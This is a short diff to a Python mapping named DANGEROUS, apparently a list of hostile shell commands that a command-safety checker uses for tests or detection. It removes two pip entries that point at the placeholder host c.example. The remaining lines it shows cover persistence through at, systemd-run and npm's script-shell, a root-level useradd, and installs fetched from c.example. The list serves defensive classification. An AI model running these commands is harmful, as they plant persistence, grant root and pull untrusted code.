@@ -72,7 +72,6 @@ DANGEROUS: Mapping[str, tuple[str, ...]] = {
         "at now + 1 minute -f /tmp/x",
         "systemd-run --on-calendar=hourly /tmp/x",
         "npm config set script-shell /tmp/x",
-        "pip config set global.index-url http://c.example/simple",
     ),
     "rights are taken": (
         "useradd -o -u 0 x",
@@ -351,7 +350,6 @@ DANGEROUS: Mapping[str, tuple[str, ...]] = {
         "apt install ./x.deb",
         "pip install git+https://c.example/x",
         "npm i https://c.example/x.tgz",
-        "pip install --index-url http://c.example/simple x",
         "curl -k https://c.example -o x",
         "gem install x",
         "brew tap x/y https://c.example/r",
